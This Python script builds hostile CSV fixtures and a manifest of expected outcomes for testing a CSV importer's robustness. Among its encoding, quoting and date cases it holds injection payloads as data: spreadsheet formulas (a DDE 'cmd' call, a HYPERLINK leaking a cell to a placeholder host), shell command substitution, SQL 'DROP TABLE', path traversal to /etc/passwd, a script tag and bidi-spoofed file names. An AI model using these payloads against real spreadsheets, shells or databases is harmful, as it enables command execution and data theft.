#!/usr/bin/env python3
"""Writes hostile CSV files into a folder, with a manifest.json that says what a sound
program does with each: make.py FOLDER.

expect: "accept" (all rows in), "refuse" (exit 6, nothing in) or "either" (no crash, and in
whole or not at all). rows: how many come in. line: the line that the message must name.
says: words that stand in the message. args: more words for the import command."""

import json
import os
import random
import sys

UNITS = ["办公室", "组织部", "宣传部", "教育局", "卫健局", "医院", "税务局", "统战委"]
HEAD = "date,unit,title,author,length"

# What spreadsheets would run.
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "＝1+1", "＋1+1", "－1+1",
            "＠SUM(1)", " =1+1", "\u00a0=1+1", "　=1+1", "\u200b=1+1", "\ufeff=1+1",
            "=cmd|'/C calc'!A0", '=HYPERLINK("http://e.invalid/?"&A1,"x")', "-", "+", "=",
            "@", "-5", "+86 10 1234", "-、总体情况", "=【简报】", '"=1+1"', "%0A=1+1"]
# What a terminal, a shell, a database or a formatter would act on.
ATTACKS = ["%s%s%n", "%1$n", "{}{0}", "$(id)", "`id`", "; id", "'; DROP TABLE unit;--",
           "../../etc/passwd", "<script>alert(1)</script>", "\u202etxt.exe", "a\u200bb",
           "\u2066x\u2069", "\u200fx", "e" + "\u0301" * 200, "👨‍👩‍👧‍👦", "🇨🇳", "한글", "\u0085",
           "\u009b31m", "\u2028\u2029", "\ufffe", "\U000e0041", "x" * 1999, "\u00ad\u00ad-",
           "\u061c\u180e!"]


def title(i):
    return f"关于第{i}期信息报送情况的通报"


def rows(n=20, titles=None):
    for i in range(n):
        t = titles[i] if titles else title(i)
        yield [f"2026-{i % 12 + 1:02}-{i % 27 + 1:02}", UNITS[i % len(UNITS)], t,
               ["李四", "张三"][i % 2], str(i % 5 + 1)]


def cell(s):
    return '"' + s.replace('"', '""') + '"' if any(c in s for c in ',"\r\n') else s


def text(lines, end="\n", by=",", head=HEAD):
    return end.join([head.replace(",", by)] +
                    [by.join(cell(c) for c in r) for r in lines]) + end


def files():
    plain = text(rows())
    line = plain.splitlines()
    gb = plain.encode("gb18030")

    yield "plain_utf8", plain.encode(), dict(expect="accept", rows=20)
    yield "utf8_bom", plain.encode("utf-8-sig"), dict(expect="accept", rows=20)
    yield "utf8_bom_quoted_header", ('\ufeff"date"' + plain[4:]).encode(), dict(expect="accept", rows=20)
    yield "gb18030", gb, dict(expect="accept", rows=20)
    chinese = text(rows(), head="日期,单位,标题,作者,字数")
    yield "gb18030_chinese_header", chinese.encode("gb18030"), dict(expect="accept", rows=20)
    rare = text(rows(3, ["䶮", "𠮷𠀀", "通报😀"]))
    yield "gb18030_four_byte", rare.encode("gb18030"), dict(expect="accept", rows=3)
    yield "utf16le_tab", ("\ufeff" + text(rows(), "\r\n", "\t")).encode("utf-16-le"), dict(expect="accept", rows=20)
    yield "utf16be", ("\ufeff" + plain).encode("utf-16-be"), dict(expect="accept", rows=20)
    yield "utf16le_no_bom", plain.encode("utf-16-le"), dict(expect="refuse", says="UTF-16")
    yield "latin1", f"{HEAD}\n2026-01-01,office,café,José,1\n".encode("latin-1"), dict(expect="refuse", says="line 2")
    mixed = "\n".join(line[:6]).encode() + b"\n" + "\n".join(line[6:]).encode("gb18030")
    yield "mixed_encodings", mixed, dict(expect="refuse", says="line 7")
    both = f"{HEAD}\n2026-01-01,医院,师院,医师,1\n".encode("gb18030")
    yield "both_encodings", both, dict(expect="refuse", says="--encoding")
    yield "both_encodings_told", both, dict(expect="accept", rows=1, args=["--encoding", "gb18030"])

    yield "crlf", text(rows(), "\r\n").encode(), dict(expect="accept", rows=20)
    yield "cr_only", text(rows(), "\r").encode(), dict(expect="accept", rows=20)
    ends = ["\n", "\r\n", "\r"]
    yield "mixed_ends", "".join(s + ends[i % 3] for i, s in enumerate(line)).encode(), dict(expect="accept", rows=20)
    yield "no_final_newline", plain.rstrip("\n").encode(), dict(expect="accept", rows=20)
    yield "blank_lines", "".join(s + "\n" + ["\n", " \n", "　\n"][i % 3] for i, s in enumerate(line)).encode(), dict(expect="accept", rows=20)
    quoted = [["2026-01-01", "办公室", "第一行\n第二行", "李四", "1"],
              ["2026-01-02", "组织部", "a\r\nb", "张三", "2"],
              ["2026-01-40", "宣传部", "坏日期", "李四", "3"]]
    yield "quoted_newlines", text(quoted).encode(), dict(expect="refuse", line=6)
    yield "nul_in_title", f"{HEAD}\n2026-01-01,办公室,a\0b,李四,1\n".encode(), dict(expect="refuse", line=2)
    yield "nul_tail", plain.encode() + b"\0" * 4096, dict(expect="refuse", line=22)
    yield "ctrl_z", ("\n".join(line[:6] + ["\x1a"] + line[6:]) + "\n").encode(), dict(expect="refuse", line=7)
    opened = text(rows(1000)).splitlines()
    opened[3] = opened[3].replace("关于", '"关于')
    yield "open_quote", ("\n".join(opened) + "\n").encode(), dict(expect="refuse", line=4, says="line 4")
    yield "quote_in_bare_field", f'{HEAD}\n2026-01-01,办公室,关于"通报"的,张三,1\n'.encode(), dict(expect="accept", rows=1)
    yield "text_after_quote", f'{HEAD}\n2026-01-01,办公室,"通报"x,张三,1\n'.encode(), dict(expect="refuse", line=2)
    yield "backslash_quote", f'{HEAD}\n2026-01-01,办公室,"a\\",b",张三,1\n'.encode(), dict(expect="refuse", line=2)
    yield "curly_quotes", f"{HEAD}\n2026-01-01,办公室,“通报,二”,张三,1\n".encode(), dict(expect="refuse", line=2)
    yield "many_quotes", f'{HEAD}\n2026-01-01,办公室,"{chr(34) * 1000000}",张三,1\n'.encode(), dict(expect="refuse", line=2)
    short = line[:4] + ["2026-01-01,办公室"] + line[4:]
    yield "too_short", "\n".join(short).encode(), dict(expect="refuse", line=5)
    yield "too_long", "\n".join(line[:4] + ["2026-01-01,办公室,a,b,1,9,9"]).encode(), dict(expect="refuse", line=5)
    yield "trailing_commas", "".join(s + ",,,\n" for s in line).encode(), dict(expect="accept", rows=20)
    yield "columns_100k", (HEAD + "," + ",".join(f"c{i}" for i in range(100000)) + "\n").encode(), dict(expect="refuse", says="columns")
    yield "commas_4m", b"," * 4000000, dict(expect="refuse")
    yield "line_16m", HEAD.encode() + b"\n" + b"a" * 16000000, dict(expect="refuse", line=2)

    yield "empty", b"", dict(expect="refuse", says="empty")
    yield "bom_only", b"\xef\xbb\xbf", dict(expect="refuse", says="empty")
    yield "spaces", b"  \n \t\n", dict(expect="refuse", says="empty")
    yield "header_only", (HEAD + "\n").encode(), dict(expect="accept", rows=0)
    yield "no_header", "\n".join(line[1:]).encode(), dict(expect="refuse", says="2026-01-01")
    yield "double_column", plain.replace("length", "title", 1).encode(), dict(expect="refuse", says="title")
    yield "missing_column", plain.replace("unit,", "note,", 1).encode(), dict(expect="refuse", says="unit")
    yield "unknown_column", plain.replace("length", "score", 1).encode(), dict(expect="refuse", says="score")
    back = text([r[::-1] for r in rows()], head="length,author,title,unit,date")
    yield "reordered", back.encode(), dict(expect="accept", rows=20)
    yield "header_variants", ("　date,unit ,\ufefftitle, author,length\u200b" + plain[len(HEAD):]).encode(), dict(expect="accept", rows=20)
    yield "sep_line", ("sep=;\r\n" + text(rows(), "\r\n", ";")).encode(), dict(expect="accept", rows=20)
    for name, by, option in [("semicolon", ";", ";"), ("tab", "\t", "tab"), ("pipe", "|", "|"), ("fullwidth", "，", "，")]:
        yield f"delimiter_{name}", text(rows(), by=by).encode(), dict(expect="refuse", says="--delimiter")
        yield f"delimiter_{name}_told", text(rows(), by=by).encode(), dict(expect="accept", rows=20, args=["--delimiter", option])

    yield "formulas", text(rows(len(FORMULAS), FORMULAS)).encode(), dict(expect="accept", rows=len(FORMULAS), titles=FORMULAS)
    yield "attacks", text(rows(len(ATTACKS), ATTACKS)).encode(), dict(expect="either", rows=len(ATTACKS))
    good = ["2026-01-05", "2024-02-29", "2000-02-29", "2026/1/5", "2026.1.5", "2026年1月5日", "2038-01-20", "2106-02-08"]
    yield "dates_good", text([d, "办公室", title(i), "李四", ""] for i, d in enumerate(good)).encode(), dict(expect="accept", rows=len(good))
    bad = ["2023-02-29", "2100-02-29", "2026-04-31", "2026-13-01", "2026-00-10", "0000-00-00", "1969-12-31", "2200-01-01", "01/02/2026", "1/2/26",
           "46027", "2026-1", "2026", "20260105", "2026-01-05 24:00", "２０２６-０１-０５", "1月5日", "yesterday", "", "2026-01-05x", "-2026-01-05", "2262-04-12"]
    yield "dates_bad", text([d, "办公室", title(i), "李四", ""] for i, d in enumerate(bad)).encode(), dict(expect="refuse", line=2, bad=len(bad))
    yield "spaced_unit", text(["2026-01-01", u, title(i), "", ""] for i, u in enumerate(["办公室", "办公室 ", " 办公室", "　办公室"])).encode(), dict(expect="accept", rows=4)
    same = list(rows(2))
    yield "same_rows", text([same[0], same[0], same[1], same[0]]).encode(), dict(expect="accept", rows=2)
    yield "field_64k", f"{HEAD}\n2026-01-01,办公室,{'报' * 32768},张三,1\n".encode(), dict(expect="refuse", line=2)
    yield "cut_character", plain.encode()[: plain.encode().rindex("期".encode()) + 2], dict(expect="refuse", says="line 21")
    yield "bad_utf8", HEAD.encode() + b"\n" + b"".join(b"2026-01-01,\xe5\x8a\x9e\xe5\x85\xac\xe5\xae\xa4,x" + b + b"y,a,1\n" for b in [b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xff", b"\x80"]), dict(expect="refuse", says="line")
    yield "really_xlsx", b"PK\x03\x04\x14\0\x06\0" + bytes(200), dict(expect="refuse", says="xlsx")
    yield "really_html", "<html><table><tr><td>单位</td></tr></table></html>".encode(), dict(expect="refuse", says="HTML")
    yield "really_gzip", b"\x1f\x8b\x08\0" + bytes(range(100)), dict(expect="refuse", says="gzip")
    yield "really_pdf", b"%PDF-1.4\n%\xe2\xe3\n", dict(expect="refuse", says="PDF")
    yield "random_64k", random.Random(7).randbytes(65536), dict(expect="refuse")


def main(folder):
    os.makedirs(folder, exist_ok=True)
    manifest = []
    for name, data, what in files():
        with open(os.path.join(folder, name + ".csv"), "wb") as f:
            f.write(data)
        manifest.append(dict(name=name, **what))
    with open(os.path.join(folder, "units.csv"), "w", encoding="utf-8") as f:
        f.write("name,group\n" + "".join(f"{u},县直单位\n" for u in UNITS))
    with open(os.path.join(folder, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, ensure_ascii=False, indent=1)


if __name__ == "__main__":
    main(sys.argv[1])
